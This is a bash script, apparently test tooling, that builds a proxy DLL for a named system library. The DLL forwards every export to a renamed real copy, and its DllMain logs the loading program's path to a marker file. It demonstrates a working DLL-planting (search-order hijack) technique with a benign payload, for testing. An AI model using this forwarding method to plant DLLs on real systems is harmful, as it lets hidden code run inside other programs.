#!/usr/bin/env bash
# Builds a planted DLL as an attacker would: <name>.dll whose DllMain writes
# C:\vorna-planted-<name>.txt and which forwards every export of the system's <name>.dll to a
# renamed copy of Wine's own (real<name>.dll), so the program that loads it goes on working.
# Usage: make-planted-dll.sh <C compiler> <objdump> <Wine PE dll folder> <name> <output folder>
set -eu
cc=$1 objdump=$2 wine_dlls=$3 name=$4 out=$5
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
mkdir -p "$out"
cp "$wine_dlls/$name.dll" "$out/real$name.dll"
{
  echo "LIBRARY $name.dll"
  echo "EXPORTS"
  # Every exported ordinal: by name where it has one, else by number alone.
  "$objdump" -p "$wine_dlls/$name.dll" | awk -v real="real$name" '
    /^Export Address Table -- Ordinal Base/ { base = $NF; table = 1; next }
    table && /^\t\[ *[0-9]+\] \+base/ { i = $0; sub(/^\t\[ */, "", i); sub(/\].*/, "", i); address[i] = 1; next }
    table && /^$/ { table = 0 }
    /^\[Ordinal\/Name Pointer\] Table/ { names = 1; next }
    names && /^\t\[ *[0-9]+\] [^ ]+$/ { i = $0; sub(/^\t\[ */, "", i); sub(/\].*/, "", i); named[i] = $NF; next }
    names && /^$/ { names = 0 }
    END {
      for (i in address) {
        if (i in named) printf "  %s = %s.%s @%d\n", named[i], real, named[i], i + base
        else printf "  ord%d = \"%s.#%d\" @%d NONAME\n", i + base, real, i + base, i + base
      }
    }'
} > "$work/$name.def"
cat > "$work/$name.c" <<CODE
#include <windows.h>
BOOL WINAPI DllMain(HINSTANCE instance, DWORD reason, LPVOID reserved) {
    (void)instance; (void)reserved;
    if (reason == DLL_PROCESS_ATTACH) {
        HANDLE marker = CreateFileA("C:\\\\vorna-planted-$name.txt", FILE_APPEND_DATA, FILE_SHARE_READ | FILE_SHARE_WRITE,
                                    NULL, OPEN_ALWAYS, FILE_ATTRIBUTE_NORMAL, NULL);
        if (marker != INVALID_HANDLE_VALUE) {
            char line[MAX_PATH + 2];
            DWORD length = GetModuleFileNameA(NULL, line, MAX_PATH), written;
            line[length++] = '\r'; line[length++] = '\n';
            WriteFile(marker, line, length, &written, NULL);
            CloseHandle(marker);
        }
    }
    return TRUE;
}
CODE
"$cc" -shared -O1 -s -o "$out/$name.dll" "$work/$name.c" "$work/$name.def" -static-libgcc
